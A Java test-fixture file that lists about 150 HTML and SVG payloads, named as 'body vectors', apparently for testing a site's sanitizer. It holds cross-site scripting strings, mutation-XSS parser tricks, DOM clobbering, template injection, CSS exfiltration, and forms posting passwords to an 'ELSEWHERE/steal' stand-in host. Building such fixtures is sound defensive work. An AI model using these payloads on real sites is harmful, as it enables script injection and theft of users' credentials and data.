package hemeroteca.attack;

import java.util.List;
import java.util.stream.Stream;

/**
 * Bodies that want to be more than text. Learnt from the kinds in cure53's H5SC and
 * DOMPurify's fixtures, from advisories of neighbours, and from what our own writer, the
 * marker of search words and the templates do.
 */
final class BodyVectors {

	/** What wants more room than there is. */
	static final List<Vector> WIDE = Vector
		.read("""
				long words                    ~ <h2>LONG</h2><ul><li>LONG</ul><table><tr><td>quay<td>LONG<tr><td>LONG<td>quay</table><blockquote><p>LONG</blockquote><p><a href="https://quay.example/LONG">LONG</a> <code>LONG</code></p>
				deep quotes                   ~ <blockquote><blockquote><blockquote><blockquote><blockquote><blockquote><blockquote><blockquote><blockquote><blockquote><blockquote><blockquote><blockquote><blockquote><p>quay and all that is said to have been said by those who said that it was said
				deep lists                    ~ <ul><li>a quay<ul><li>a quay<ul><li>a quay<ul><li>a quay<ul><li>a quay<ul><li>a quay<ul><li>a quay<ul><li>a quay<ul><li>a quay<ul><li>a quay<ul><li>a quay of all that is said
				many columns                  ~ <table><tr>COLUMNS<tr>COLUMNS</table>
				""");

	private static final List<Vector> ACTIVE = Vector
		.read("""
					script                        ~ <script>alert(1)</script>
					script in capitals            ~ <SCRIPT SRC=ELSEWHERE/x.js></SCRIPT>
					script split by a script      ~ <scr<script>ipt>alert(1)</scr</script>ipt>
					script with a slash           ~ <script/x>alert(1)</script/x>
					script that is a module       ~ <script type=module src="ELSEWHERE/m.js"></script>
					script that never ends        ~ <script>/* quay
					script in an attribute's tail ~ <p title="`<script>`"><script>alert(1)</script>
					script data with comment      ~ <script><!--<script></script>--><img src=x onerror=alert(1)></script>
					speculation rules             ~ <script type=speculationrules>{"prefetch":[{"source":"list","urls":["ELSEWHERE/s"]}]}</script>
					import map                    ~ <script type=importmap>{"imports":{"x":"ELSEWHERE/x.js"}}</script>
					image that fails              ~ <img src=x onerror=alert(1)>
					image without spaces          ~ <img/src=x/onerror=alert(1)//>
					image with a broken quote     ~ <img src="x` `<script>alert(1)</script>"` `>
					image with newlines           ~ <img␊src␊=␊x␊onerror␊=␊"alert(1)">
					image with a form feed        ~ <img␌src=x␌onerror=alert(1)>
					image in three quotes         ~ <img \"""><script>alert(1)</script>">
					image named image             ~ <image src=x onerror=alert(1) href=ELSEWHERE/i.svg>
					image with a zero in its name ~ <im␀g src=x onerror=alert(1)>
					image with sources            ~ <img srcset="ELSEWHERE/1.png 1x, ELSEWHERE/2.png 2x" src="ELSEWHERE/3.png" width=800>
					image by javascript           ~ <img src="javascript:alert(1)" width=800 height=600>
					image by an SVG               ~ <img width=800 src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><image href='ELSEWHERE/i.png'/></svg>">
					image by an SVG in base64     ~ <img width=800 src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiPjwvc3ZnPg==">
					image by a page               ~ <img width=800 src="data:text/html,<script>alert(1)</script>">
					image by two types            ~ <img width=800 src="data:image/png;base64,x&quot; onerror=alert(1) x=&quot;">
					image kept lazy               ~ <img width=800 data-src="ELSEWHERE/lazy.png" data-srcset="ELSEWHERE/l2.png 2x" loading=eager onload=alert(1)>
					image with a map              ~ <img src=ELSEWHERE/m.png usemap=#m ismap width=800><map name=m><area shape=default href="javascript:alert(1)"></map>
					svg that loads                ~ <svg onload=alert(1)>
					svg with a slash              ~ <svg/onload=alert(1)//
					svg with a script             ~ <svg><script>alert(1)</script></svg>
					svg with an encoded script    ~ <svg><script>alert&lpar;1&rpar;</script></svg>
					svg with a script elsewhere   ~ <svg><script href="ELSEWHERE/x.js"/></svg>
					svg that animates a link      ~ <svg><a xlink:href="#"><animate attributeName=href values="javascript:alert(1)"/><text x=20 y=20>quay</text></a></svg>
					svg that sets an event        ~ <svg><set attributeName=onmouseover to=alert(1)></svg>
					svg that uses another         ~ <svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0neCcgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/></svg>
					svg with an image             ~ <svg><image href="ELSEWHERE/s.png" onerror=alert(1)></image><feImage href="ELSEWHERE/f.png"/></svg>
					svg with foreign content      ~ <svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
					svg with a style              ~ <svg></p><style><a id="</style><img src=x onerror=alert(1)>">
					svg with character data       ~ <svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>
					svg with a title              ~ <svg><title><style><img src="</style><img src=x onerror=alert(1)//">
					math with a table             ~ <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
					math with a mark              ~ <math><mtext><table><mglyph><style><math href="javascript:alert(1)">quay</math></style></mglyph></table></mtext></math>
					math with a malign mark       ~ <form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
					math with annotation          ~ <math><annotation-xml encoding="text/html"><style><img src="</style><img src=x onerror=alert(1)>"></style></annotation-xml></math>
					math that leads               ~ <math><maction actiontype="statusline#http://quay" xlink:href="javascript:alert(1)">quay</maction></math>
					math with an anchor           ~ <math><mi href="javascript:alert(1)">quay</mi></math>
					math in a broken table        ~ <math><mi><table><mi><mglyph><svg><p><style><!--</style><img src=x onerror=alert(1)>-->
					noscript with a title         ~ <noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
					noscript with a comment       ~ <noscript><!--</noscript><img src=x onerror=alert(1)>--></noscript>
					noscript with a style         ~ <noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>
					template                      ~ <template><img src=x onerror=alert(1)></template>
					template in a template        ~ <template><s><template><s><img src=x onerror=alert(1)>quay</s></template></s></template>
					template that is a shadow     ~ <div><template shadowrootmode=open><img src=x onerror=alert(1)><slot></slot><style>:host{position:fixed;inset:0}</style></template>quay</div>
					style that ends in a title    ~ <style><a title="</style><img src=x onerror=alert(1)>">
					style that imports            ~ <style>@import "ELSEWHERE/x.css"; body { background: url(ELSEWHERE/b.png) }</style>
					style that reads              ~ <style>input[value^="a"] { background: url(ELSEWHERE/a) } @font-face { font-family: x; src: url(ELSEWHERE/f.woff) } * { font-family: x }</style>
					style that hides              ~ <style>main, header { display: none !important }</style>
					xmp                           ~ <xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
					listing                       ~ <listing>&lt;img src=x onerror=alert(1)&gt;<t t></listing>
					plaintext                     ~ <plaintext><img src=x onerror=alert(1)>
					textarea                      ~ <textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>
					textarea and comment          ~ <textarea>quay</textarea><!--</textarea><img src=x onerror=alert(1)>-->
					title                         ~ <title><p title="</title><img src=x onerror=alert(1)>"></title>
					iframe with raw text          ~ <iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>
					noembed                       ~ <noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>
					noframes                      ~ <noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>
					select                        ~ <select><style></select><img src=x onerror=alert(1)></style>
					select with an iframe         ~ <option><iframe></select><b><script>alert(1)</script>
					comment with an end           ~ <!--><img src=x onerror=alert(1)>-->
					comment with a bang           ~ <!--!><img src=x onerror=alert(1)>--!><img src=x onerror=alert(2)>
					comment that is conditional   ~ <!--[if IE]><img src=x onerror=alert(1)><![endif]-->
					processing instruction        ~ <?xml-stylesheet href="ELSEWHERE/x.xsl"?><? foo="><img src=x onerror=alert(1)>">
					declaration                   ~ <! foo="><img src=x onerror=alert(1)>"><!ENTITY x SYSTEM "file:///etc/passwd">&x;
					end tag with attributes       ~ </p foo="><img src=x onerror=alert(1)>">
					end of a body                 ~ </body></html><script>alert(1)</script>
					percent tag                   ~ <% foo><x foo="%><img src=x onerror=alert(1)>">
					body element                  ~ <body onload=alert(1) background=ELSEWHERE/b.png onpageshow=alert(2)>
					html element                  ~ <html manifest=ELSEWHERE/m onclick=alert(1) style="display:none">
					frameset                      ~ <frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
					iframe                        ~ <iframe src="javascript:alert(1)"></iframe><iframe src="ELSEWHERE/f"></iframe>
					iframe with a document        ~ <iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
					iframe with a data document   ~ <iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>
					object                        ~ <object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object><object data="javascript:alert(1)"></object>
					embed                         ~ <embed src="data:text/html,<script>alert(1)</script>"><embed src=ELSEWHERE/e.swf allowscriptaccess=always>
					applet and others             ~ <applet code=ELSEWHERE/A.class></applet><portal src=ELSEWHERE/p></portal><fencedframe></fencedframe>
					form                          ~ <form action=ELSEWHERE/steal method=post><input name=password autofocus onfocus=alert(1)><button>quay</button></form>
					form of ours                  ~ <form id=drop action="javascript:alert(1)"><input type=submit id=files></form>
					button of a form              ~ <form id=f></form><button form=f formaction="javascript:alert(1)">quay</button>
					button of our search          ~ <button form=lookup formaction=ELSEWHERE/steal name=q>quay</button><input form=lookup type=image src=ELSEWHERE/i.png>
					isindex and keygen            ~ <isindex type=image src=1 onerror=alert(1)><keygen autofocus onfocus=alert(1)>
					details that opens            ~ <details open ontoggle=alert(1)><summary>quay</summary>text</details>
					popover                       ~ <button popovertarget=x>quay</button><div popover id=x onbeforetoggle=alert(1)>text</div>
					marquee                       ~ <marquee onstart=alert(1) loop=1 width=0>quay</marquee>
					base                          ~ <base href="ELSEWHERE/"><a href="relative">quay</a>
					base of script                ~ <base href="javascript:/"><a href="/. /,alert(1)//#">quay</a>
					refresh                       ~ <meta http-equiv=refresh content="0;url=ELSEWHERE/r">
					refresh to script             ~ <meta http-equiv="refresh" content="0; URL=javascript:alert(1)">
					refresh to data               ~ <meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">
					meta with a cookie            ~ <meta http-equiv=set-cookie content="hemeroteca-form=x"><meta name=referrer content=unsafe-url>
					meta with a policy            ~ <meta http-equiv=Content-Security-Policy content="script-src 'none'; style-src 'none'">
					links to a sheet              ~ <link rel=stylesheet href="ELSEWHERE/x.css"><link rel=import href="ELSEWHERE/i.html">
					links in advance              ~ <link rel=prefetch href=ELSEWHERE/p><link rel=preload as=image href=ELSEWHERE/i><link rel=preconnect href=ELSEWHERE><link rel=dns-prefetch href=ELSEWHERE><link rel=prerender href=ELSEWHERE/r><link rel=modulepreload href=ELSEWHERE/m.js>
					link with an icon             ~ <link rel=icon href="ELSEWHERE/i.ico"><link rel=manifest href="ELSEWHERE/m.json">
					style attribute over all      ~ <div style="position:fixed;inset:0;z-index:99999;background:red">quay</div>
					style attribute that loads    ~ <p style="background:url(ELSEWHERE/s.png);width:expression(alert(1));-moz-binding:url(ELSEWHERE/x.xml)">quay</p>
					style attribute encoded       ~ <p style="back&#x67;round:u\\72l(ELSEWHERE/s.png)">quay</p>
					class of ours                 ~ <div class="masthead theme visually-hidden skip" role=dialog aria-modal=true hidden inert>quay</div>
					clobbers the search box       ~ <a id=q name=q href="https://quay.example/">quay</a><img name=getElementById width=800 src=ELSEWHERE/g.png>
					clobbers the document         ~ <form name=body><input name=firstChild></form><img name=cookie><a id=location href="https://quay.example/">quay</a>
					clobbers the frame            ~ <a id=theme-system></a><a id=main></a><form id=htmx><input name=config></form><iframe name=self></iframe>
					clobbers htmx                 ~ <div hx-get="/articles/1" hx-trigger="load" data-hx-on:load="alert(1)" hx-on--load="alert(1)">quay</div>
					template of Thymeleaf         ~ <p th:text="${7*7}" th:utext="${T(java.lang.Runtime)}" data-th-text="x">[[${7*7}]] [(${7*7})] __${7*7}__ ~{layout}</p>
					link to script                ~ <a href="javascript:alert(1)">quay</a>
					link in mixed case            ~ <a href="JaVaScRiPt:alert(1)">quay</a>
					link with a tab               ~ <a href="java&#9;script:alert(1)">quay</a><a href="jav␉ascript:alert(1)">quay</a>
					link with a newline           ~ <a href="java&#10;script:alert(1)">quay</a><a href="java␊script:alert(1)">quay</a>
					link with entities            ~ <a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">quay</a><a href="javascript&colon;alert(1)">quay</a>
					link with control characters  ~ <a href="␁javascript:alert(1)">quay</a><a href="&#1;java&#3;script:alert(1)">quay</a>
					link with a zero              ~ <a href="java␀script:alert(1)">quay</a><a href="java&#0;script:alert(1)">quay</a>
					link with odd spaces          ~ <a href="&#x2028;javascript:alert(1)">quay</a><a href="&#xA0;javascript:alert(1)">quay</a><a href="&#xFEFF;javascript:alert(1)">quay</a>
					link with invisible letters   ~ <a href="java&#x200B;script:alert(1)">quay</a><a href="java&shy;script:alert(1)">quay</a><a href="java&#x202E;script:alert(1)">quay</a>
					link to data                  ~ <a href="data:text/html,<script>alert(1)</script>">quay</a><a href="DATA:text/html;base64,PHNjcmlwdD4=">quay</a>
					link to vbscript              ~ <a href="vbscript:msgbox(1)">quay</a><a href="vb&#x0d;script:x">quay</a><a href="livescript:x">quay</a><a href="mocha:x">quay</a>
					link to other schemes         ~ <a href="file:///etc/passwd">quay</a><a href="blob:null/x">quay</a><a href="intent://x#Intent;end">quay</a><a href="ms-word:x">quay</a><a href="view-source:x">quay</a>
					link with credentials         ~ <a href="https://localhost@quay.example/">quay</a><a href="https:javascript:alert(1)">quay</a><a href="http:alert(1)">quay</a>
					link with quotes              ~ <a href='https://quay.example/"onmouseover="alert(1)'>quay</a><a href="https://quay.example/'onclick='alert(1)">quay</a>
					link with brackets            ~ <a href="https://quay.example/<img src=x onerror=alert(1)>">quay</a><a href="https://quay.example/{{x}}`">quay</a>
					link with a ping              ~ <a href="https://quay.example/" ping="ELSEWHERE/ping" target=_blank rel=opener download="x.exe">quay</a>
					link around a block           ~ <a href="javascript:alert(1)"><h2>quay</h2><p>quay</p></a>
					link by another name          ~ <b href="javascript:alert(1)" xlink:href="javascript:alert(1)" action="javascript:alert(1)">quay</b>
					mail with headers             ~ <a href="mailto:x@quay.example?bcc=all@quay.example&attach=/etc/passwd">quay</a><a href='mailto:x"onclick="alert(1)'>quay</a>
					video                         ~ <video src=ELSEWHERE/v.mp4 poster=ELSEWHERE/p.png autoplay onloadstart=alert(1)><track default src=ELSEWHERE/t.vtt oncuechange=alert(1)><source src=ELSEWHERE/s.mp4 onerror=alert(1)></video>
					audio                         ~ <audio src=x onerror=alert(1) autoplay></audio>
					picture                       ~ <picture><source srcset="ELSEWHERE/w.webp"><img src=ELSEWHERE/w.png width=800 onerror=alert(1)></picture>
					table with a background       ~ <table background="ELSEWHERE/t.png" onmouseover=alert(1)><tr><td background="javascript:alert(1)">quay<td>stone</table>
					quote with a source           ~ <blockquote cite="javascript:alert(1)" onclick=alert(1)>quay</blockquote><q cite="data:text/html,x">quay</q>
					list with a style             ~ <ul style="list-style:url(ELSEWHERE/l.png)"><li value="1" onclick=alert(1)>quay stone and water and all that lies between them</ul>
					language as an attack         ~ <p lang='en" onmouseover="alert(1)' dir='rtl" onclick="alert(1)'>quay, in no language that there is, said to be long enough for a paragraph</p>
					spans as an attack            ~ <table><tr><td colspan='2" onclick="alert(1)' rowspan=99999999>quay</td><td colspan=1e9>stone</td></tr></table>
					custom element                ~ <x-quay onclick=alert(1) is=x>quay</x-quay><b is=x-quay>quay</b>
					unknown tag                   ~ <quay␉onmouseover=alert(1)>quay</quay><1 onclick=alert(1)>quay</1><é onclick=alert(1)>quay</é>
					nested formatting             ~ <b><i><u><a href=#><b><i><a href="javascript:alert(1)"><table><a>quay</b></i>
					foster parent                 ~ <table><a href="javascript:alert(1)">quay<tr><td><table><svg><td><style><a title="</style><img src=x onerror=alert(1)>">
					ruby                          ~ <ruby>quay<rt><script>alert(1)</script><rp onclick=alert(1)>stone</ruby>
					text that looks like a tag    ~ &lt;img src=x onerror=alert(1)&gt; &amp;lt;svg onload=alert(1)&amp;gt;
					text of numbers               ~ &#60;img src=x onerror=alert(1)&#62; &#x3c;svg onload=alert(1)&#x3e; &#00000060;script&#62;
					text of old encodings         ~ +ADw-script+AD4-alert(1)+ADw-/script+AD4- ¼script¾alert(1)¼/script¾ %3Cscript%3E
					text of wide brackets         ~ ＜img src=x onerror=alert(1)＞ ‹script› ﹤svg onload=alert(1)﹥
					text with private marks       ~ ␁quay␛ &#1;&#2; &#xE000; &#xFDD0; &#xFFFE; &#xD800;
					text that turns around        ~ &#x202E;gnp.evil&#x202C; &#x2066;quay&#x2069; &#x200F;
				text with a thousand marks    ~ q&#x301;&#x301;&#x301;&#x301;&#x301;&#x301;&#x301;&#x301;&#x301;&#x301;&#x301;&#x301;&#x301;&#x301;&#x301;&#x301;uay
					""");

	static final List<Vector> ALL = Stream.concat(ACTIVE.stream(), WIDE.stream()).toList();

	private BodyVectors() {
	}

}
